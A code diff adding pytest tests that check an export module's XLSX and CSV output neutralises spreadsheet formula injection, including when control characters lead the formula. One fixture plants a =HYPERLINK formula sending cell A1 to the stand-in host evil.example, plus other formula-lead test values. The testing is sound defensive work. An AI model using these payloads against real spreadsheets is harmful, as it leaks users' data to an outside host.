@@ -630,3 +630,43 @@ def test_preview_queries_do_not_grow_with_rows(editor: Any, plan_accounts: list[
 
     queries(2)  # the user's permissions are cached after the first look
     assert queries(1) == queries(50)
+
+
+# Every C0 control character openpyxl cannot store (NUL cannot be stored in a post either).
+CONTROLS = [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"]
+
+
+def test_xlsx_export_holds_no_formula_when_a_control_character_comes_before_the_formula(
+    editor: Any, plan_accounts: list[Any], plan_clock: None
+) -> None:
+    rows = [plan_row(external_id=f"C-{index}", time=f"{8 + index // 60:02d}:{index % 60:02d}") for index in range(31)]
+    plan_commit(data=plan_bytes(*rows), file_name="p.csv", actor=editor)
+    storable = [char for char in CONTROLS if char != "\x00"]
+    for index, char in enumerate(storable):
+        Post.objects.filter(external_id=f"C-{index}").update(
+            body=f'{char}=HYPERLINK("http://evil.example/?"&A1,"Klick")', title=f"{char}{char}+1", link=f"{char}@x"
+        )
+    exported = plan_export(posts=posts_for_plan_export(), file_format=XLSX)
+    sheet = load_workbook(io.BytesIO(exported)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert not [cell.value for cell in cells if str(cell.value or "").startswith(("=", "+", "-", "@"))]
+    bodies = {str(cell.value) for cell in cells if "HYPERLINK" in str(cell.value)}
+    assert bodies == {'\'=HYPERLINK("http://evil.example/?"&A1,"Klick")'}
+
+
+@pytest.mark.parametrize("char", CONTROLS)
+def test_written_cells_are_never_formulas_whatever_control_character_leads(char: str) -> None:
+    from plans.exporting import cell_export, rows_to_csv, rows_to_xlsx
+
+    values = [f"{char}=1+1", f"{char}{char}@SUM(A1)", f"{char}\t=2", f"x{char}=3", f"{char}'=4"]
+    # Rows as the plan export builds them, and rows a caller escaped before the control character went.
+    for row in ([cell_export(value) for value in values], [cell_escape(value) for value in values]):
+        sheet = load_workbook(io.BytesIO(rows_to_xlsx([row]))).active
+        written = [cell for cells in sheet.iter_rows() for cell in cells]
+        assert [cell.data_type for cell in written] == ["s"] * len(values)
+        assert [cell_unescape(str(cell.value)) for cell in written] == ["=1+1", "@SUM(A1)", "\t=2", "x=3", "'=4"]
+        text = rows_to_csv([row]).decode("utf-8-sig")
+        parsed = next(csv.reader(io.StringIO(text)))
+        assert not [cell for cell in parsed if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert [cell_unescape(cell) for cell in parsed] == ["=1+1", "@SUM(A1)", "\t=2", "x=3", "'=4"]
